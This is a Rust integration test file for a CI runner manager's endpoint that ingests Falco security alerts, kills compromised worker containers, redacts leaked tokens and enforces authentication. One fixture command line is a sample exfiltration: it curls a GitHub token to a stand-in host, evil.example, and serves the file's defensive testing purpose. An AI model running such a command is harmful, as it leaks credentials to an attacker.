//! `POST /v1/security/events`: Falco's alerts about real running workers
//! (docs/runtime-security.md). The alerts are the samples of
//! fixtures/falco (Falco's JSON output format, see fixtures/PROVENANCE.md)
//! with the container id, time and command line of each case filled in.

mod common;

use std::time::{Duration, Instant};

use berth::store::{ApiTokenScope, JobState};
use common::{Berth, LABELS, World, eventually};
use ghsim::JobSpec;
use serde_json::{Value, json};

const JOB_LIMIT: Duration = Duration::from_secs(60);

fn repo_file(path: &str) -> String {
    std::fs::read_to_string(format!("{}/../../{path}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

/// The terminal-shell sample (Critical) about `container_id`, at a time of
/// its own (`nanos`), with `cmdline` as the process's command line.
fn shell_alert(container_id: &str, nanos: u32, cmdline: &str) -> Value {
    let mut alert: Value = serde_json::from_str(&repo_file("fixtures/falco/terminal-shell.json"))
        .expect("the sample is JSON");
    alert["time"] = json!(format!("2026-12-07T10:15:30.{nanos:09}Z"));
    alert["output_fields"]["container.id"] = json!(&container_id[..12]);
    alert["output_fields"]["proc.cmdline"] = json!(cmdline);
    alert["output"] = json!(format!(
        "10:15:30.{nanos:09}: Critical Terminal shell in a berth worker (user=runner process=bash cmdline={cmdline} container_id={})",
        &container_id[..12]
    ));
    alert
}

/// The falcosidekick batch's network-tool alert (Warning) about `container_id`.
fn network_tool_alert(container_id: &str) -> Value {
    let batch: Value =
        serde_json::from_str(&repo_file("fixtures/falco/falcosidekick-batch.json")).unwrap();
    let mut alert = batch[0].clone();
    assert_eq!(alert["rule"], "Berth network tool in worker");
    alert["output_fields"]["container.id"] = json!(&container_id[..12]);
    alert
}

async fn post(berth: &Berth, token: &str, body: &Value) -> (u16, Value) {
    post_raw(berth, token, body.to_string()).await
}

async fn post_raw(berth: &Berth, token: &str, body: String) -> (u16, Value) {
    let r = berth
        .http()
        .post(format!("{}/v1/security/events", berth.url))
        .bearer_auth(token)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

async fn security_token(berth: &Berth) -> String {
    berth::api::auth::create_token(berth.store(), "falco", ApiTokenScope::Security)
        .await
        .unwrap()
        .0
}

async fn container_exists(docker: &bollard::Docker, id: &str) -> bool {
    docker.inspect_container(id, None).await.is_ok()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_critical_alert_kills_the_job_within_a_second_and_cancels_its_run() {
    let world = World::new().await;
    let berth = Berth::start(
        &world,
        world.config("max_runners = 1\nsecurity_cancel_run = true"),
    )
    .await;
    let token = security_token(&berth).await;
    let docker = berth::docker::worker_image::connect(None).await.unwrap();

    // Two jobs of one workflow run: the first runs, the second waits for
    // the pool's one slot.
    let run_id = 4242;
    let spec = |steps: &[&str]| JobSpec {
        repository: "acme/widgets".into(),
        labels: LABELS.iter().map(|s| s.to_string()).collect(),
        steps: steps.iter().map(|s| (*s).into()).collect(),
        run_id: Some(run_id),
        ..JobSpec::default()
    };
    let attacked = world.queue_spec(spec(&["sleep 60"]));
    let sibling = world.queue_spec(spec(&["sleep 60"]));
    let running = berth
        .wait_state(attacked, JobState::Running, JOB_LIMIT)
        .await;
    eventually("the job taken on GitHub", JOB_LIMIT, || async {
        world.sim.job(attacked).unwrap().status == "in_progress"
    })
    .await;
    let worker = running.container_id.clone().unwrap();
    let runner = running.runner_name.clone().unwrap();
    assert!(container_exists(&docker, &worker).await);

    // The alert quotes a token from the command line.
    let leaked = "ghs_16C7e42F292c6912E7710c838347Ae178B4a";
    let alert = shell_alert(
        &worker,
        1,
        &format!("bash -c 'curl -H \"Authorization: token {leaked}\" evil.example'"),
    );
    let sent = Instant::now();
    let post_alert = {
        let (url, token, body) = (berth.url.clone(), token.clone(), alert.to_string());
        tokio::spawn(async move {
            reqwest::Client::new()
                .post(format!("{url}/v1/security/events"))
                .bearer_auth(token)
                .body(body)
                .send()
                .await
                .unwrap()
        })
    };
    while container_exists(&docker, &worker).await {
        assert!(
            sent.elapsed() < Duration::from_secs(5),
            "the worker is still there 5 s after the alert"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let gone_after = sent.elapsed();
    eprintln!("the worker was gone {gone_after:?} after the alert was sent");
    let answer = post_alert.await.unwrap();
    assert_eq!(answer.status(), 202);
    let answer: Value = answer.json().await.unwrap();
    assert_eq!(answer["events"][0]["action"], "kill", "{answer}");
    assert_eq!(answer["events"][0]["outcome"], "killed", "{answer}");
    assert_eq!(answer["events"][0]["job_id"], json!(running.id));
    assert!(
        gone_after < Duration::from_secs(1),
        "the worker was removed {gone_after:?} after the alert"
    );

    // The job failed for the rule, and its registration is gone.
    let job = berth.wait_terminal(attacked, JOB_LIMIT).await;
    assert_eq!(job.state, JobState::Failed, "{job:?}");
    assert_eq!(
        job.error.as_deref(),
        Some("security: Berth terminal shell in worker")
    );
    eventually("the runner deregistered", JOB_LIMIT, || async {
        !world.berth_runners().contains(&runner)
    })
    .await;

    // The workflow run was cancelled on GitHub: its other job too.
    let other = world
        .sim
        .wait_job_completed(sibling, JOB_LIMIT)
        .await
        .unwrap();
    assert_eq!(other.conclusion.as_deref(), Some("cancelled"), "{other:?}");
    let other = berth.wait_terminal(sibling, JOB_LIMIT).await;
    assert_eq!(other.state, JobState::Cancelled, "{other:?}");

    // The event is kept with the job, with the token redacted.
    let shown = berth.job_json(running.id).await;
    let events = shown["security_events"].as_array().unwrap();
    assert_eq!(events.len(), 1, "{shown}");
    assert_eq!(events[0]["rule"], "Berth terminal shell in worker");
    assert_eq!(events[0]["priority"], "Critical");
    assert_eq!(events[0]["outcome"], "killed");
    assert_eq!(events[0]["container_id"], json!(worker));
    assert!(!shown.to_string().contains(leaked), "{shown}");
    assert!(shown.to_string().contains("[REDACTED]"), "{shown}");
    // The dashboard's job page shows it too.
    let page = berth
        .http()
        .get(format!("{}/jobs/{}", berth.url, running.id))
        .bearer_auth(&berth.admin_token)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains("id=\"security-events\""), "{page}");
    assert!(page.contains("Berth terminal shell in worker"));
    assert!(!page.contains(leaked));
    let count = r#"berth_security_events_total{rule="Berth terminal shell in worker",priority="Critical",action="kill"} 1"#;
    assert!(berth.metrics().await.contains(count));

    // The same alert delivered again acts no more, and is not counted again.
    let (status, again) = post(&berth, &token, &alert).await;
    assert_eq!(status, 202);
    assert_eq!(again["events"][0]["outcome"], "duplicate", "{again}");
    assert!(berth.metrics().await.contains(count));
    assert_eq!(
        berth.job_json(running.id).await["security_events"]
            .as_array()
            .unwrap()
            .len(),
        1
    );

    // A new alert about the finished job is recorded, nothing more.
    let (status, late) = post(&berth, &token, &shell_alert(&worker, 2, "bash")).await;
    assert_eq!(status, 202);
    assert_eq!(late["events"][0]["action"], "kill", "{late}");
    assert_eq!(late["events"][0]["outcome"], "recorded", "{late}");
    let job = berth.job(attacked).await.unwrap();
    assert_eq!(
        job.error.as_deref(),
        Some("security: Berth terminal shell in worker")
    );

    eventually("nothing left", Duration::from_secs(15), || async {
        world.containers().is_empty() && world.berth_runners().is_empty()
    })
    .await;
    berth.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn alerts_below_the_kill_priority_are_recorded_and_bad_input_changes_nothing() {
    let world = World::new().await;
    let berth = Berth::start(&world, world.config("")).await;
    let token = security_token(&berth).await;
    let docker = berth::docker::worker_image::connect(None).await.unwrap();
    let gh_job = world.queue(&["sleep 60"]);
    let running = berth.wait_state(gh_job, JobState::Running, JOB_LIMIT).await;
    let worker = running.container_id.clone().unwrap();

    // Warning: recorded with the job, which runs on.
    let (status, answer) = post(&berth, &token, &network_tool_alert(&worker)).await;
    assert_eq!(status, 202, "{answer}");
    assert_eq!(answer["events"][0]["action"], "alert", "{answer}");
    assert_eq!(answer["events"][0]["outcome"], "recorded", "{answer}");

    // Bad input: refused, and nothing of it acted on.
    let critical = shell_alert(&worker, 7, "bash");
    let mut unknown_priority = critical.clone();
    unknown_priority["priority"] = json!("Dire");
    let mut no_rule = critical.clone();
    no_rule.as_object_mut().unwrap().remove("rule");
    for (body, says) in [
        ("{\"rule\":".to_string(), "not JSON"),
        (unknown_priority.to_string(), "priority"),
        (json!([critical, no_rule]).to_string(), "index 1"),
        ("[]".to_string(), "empty"),
    ] {
        let (status, answer) = post_raw(&berth, &token, body).await;
        assert_eq!(status, 400, "{answer}");
        assert!(answer["error"].as_str().unwrap().contains(says), "{answer}");
    }
    // Tokens: none, or one without the scope.
    let (status, _) = post(&berth, "berth_not-a-token", &critical).await;
    assert_eq!(status, 401);
    let (read, _) = berth::api::auth::create_token(berth.store(), "r", ApiTokenScope::Read)
        .await
        .unwrap();
    let (status, answer) = post(&berth, &read, &critical).await;
    assert_eq!(status, 403, "{answer}");
    // Falco's http_output sends the token as a URL's password: Basic.
    let basic = |user_token: &str| {
        berth
            .http()
            .post(format!("{}/v1/security/events", berth.url))
            .basic_auth("falco", Some(user_token))
            .body(shell_alert(&"e".repeat(64), 11, "sh").to_string())
            .send()
    };
    assert_eq!(basic(&token).await.unwrap().status(), 202);
    assert_eq!(basic("berth_wrong").await.unwrap().status(), 401);
    // Only here: other endpoints take bearer tokens alone.
    let r = berth
        .http()
        .get(format!("{}/v1/jobs", berth.url))
        .basic_auth("x", Some(&berth.admin_token))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);

    // An alert about a container berth does not know: 202, counted, nothing else.
    let (status, answer) = post(&berth, &token, &shell_alert(&"f".repeat(64), 8, "sh")).await;
    assert_eq!(status, 202);
    assert_eq!(answer["events"][0]["outcome"], "unmatched", "{answer}");
    assert_eq!(answer["events"][0]["job_id"], Value::Null);
    let metrics = berth.metrics().await;
    // This one and the Basic one.
    assert!(
        metrics.contains(r#"berth_security_events_total{rule="Berth terminal shell in worker",priority="Critical",action="unmatched"} 2"#),
        "{metrics}"
    );
    assert!(metrics.contains(
        r#"berth_security_events_total{rule="Berth network tool in worker",priority="Warning",action="alert"} 1"#
    ));

    // The job ran on through all of it, with the one alert kept.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let job = berth.job(gh_job).await.unwrap();
    assert_eq!(job.state, JobState::Running, "{job:?}");
    assert!(!job.cancel_requested);
    assert!(container_exists(&docker, &worker).await);
    let shown = berth.job_json(running.id).await;
    let events = shown["security_events"].as_array().unwrap();
    assert_eq!(events.len(), 1, "{shown}");
    assert_eq!(events[0]["action"], "alert");

    // A policy that says `ignore` for the rule: counted, not recorded.
    berth.stop().await;
    let mut config = world.config("");
    config.security.policies = vec![berth::security::policy::PolicyRule {
        rule: "Berth terminal*".into(),
        priority: None,
        action: berth::security::Action::Ignore,
    }];
    let berth = Berth::start(&world, config).await;
    let (status, answer) = post(&berth, &token, &shell_alert(&worker, 9, "bash")).await;
    assert_eq!(status, 202);
    assert_eq!(answer["events"][0]["outcome"], "ignored", "{answer}");
    let job = berth.job(gh_job).await.unwrap();
    assert_eq!(job.state, JobState::Running, "{job:?}");
    assert_eq!(
        berth.job_json(running.id).await["security_events"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
    let cancel = berth
        .http()
        .post(format!("{}/v1/jobs/{}/cancel", berth.url, running.id))
        .bearer_auth(&berth.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(cancel.status(), 202);
    berth.wait_terminal(gh_job, JOB_LIMIT).await;
    berth.stop().await;
}

/// With `server.tls_client_ca`, alerts need a client certificate signed by
/// that CA as well as the token; other requests need none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_a_client_ca_alerts_need_a_client_certificate() {
    let world = World::new().await;
    let dir = world.dir.path();
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let ca = rcgen::CertifiedIssuer::self_signed(ca_params, ca_key).unwrap();
    let server_key = rcgen::KeyPair::generate().unwrap();
    let mut server_params = rcgen::CertificateParams::new(vec!["127.0.0.1".to_string()]).unwrap();
    server_params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
    let server_cert = server_params.signed_by(&server_key, &ca).unwrap();
    let client_key = rcgen::KeyPair::generate().unwrap();
    let mut client_params = rcgen::CertificateParams::new(vec!["falco".to_string()]).unwrap();
    client_params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ClientAuth];
    let client_cert = client_params.signed_by(&client_key, &ca).unwrap();
    // A client certificate from another CA.
    let stranger = rcgen::generate_simple_self_signed(vec!["falco".to_string()]).unwrap();
    std::fs::write(dir.join("ca.pem"), ca.pem()).unwrap();
    std::fs::write(dir.join("server.pem"), server_cert.pem()).unwrap();
    std::fs::write(dir.join("server.key"), server_key.serialize_pem()).unwrap();
    let mut config = world.config("");
    config.server.tls_cert = Some(dir.join("server.pem"));
    config.server.tls_key = Some(dir.join("server.key"));
    config.server.tls_client_ca = Some(dir.join("ca.pem"));
    let berth = Berth::start(&world, config).await;
    let token = security_token(&berth).await;
    let https = berth.url.replace("http://", "https://");
    let client = |identity: Option<String>| {
        let mut b = reqwest::Client::builder()
            .add_root_certificate(reqwest::Certificate::from_pem(ca.pem().as_bytes()).unwrap());
        if let Some(pem) = identity {
            b = b.identity(reqwest::Identity::from_pem(pem.as_bytes()).unwrap());
        }
        b.build().unwrap()
    };
    let alert = shell_alert(&"f".repeat(64), 3, "bash").to_string();

    let anonymous = client(None);
    let r = anonymous
        .post(format!("{https}/v1/security/events"))
        .bearer_auth(&token)
        .body(alert.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    assert!(r.text().await.unwrap().contains("client certificate"));
    // Everything else works without one.
    let r = anonymous
        .get(format!("{https}/v1/jobs"))
        .bearer_auth(&berth.admin_token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);

    let falco = client(Some(format!(
        "{}{}",
        client_cert.pem(),
        client_key.serialize_pem()
    )));
    let r = falco
        .post(format!("{https}/v1/security/events"))
        .bearer_auth(&token)
        .body(alert.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 202);
    // The certificate is not enough without the token.
    let r = falco
        .post(format!("{https}/v1/security/events"))
        .body(alert.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    // A certificate of another CA fails the handshake.
    let impostor = client(Some(format!(
        "{}{}",
        stranger.cert.pem(),
        stranger.signing_key.serialize_pem()
    )));
    assert!(
        impostor
            .post(format!("{https}/v1/security/events"))
            .bearer_auth(&token)
            .body(alert)
            .send()
            .await
            .is_err()
    );
    berth.stop().await;
}
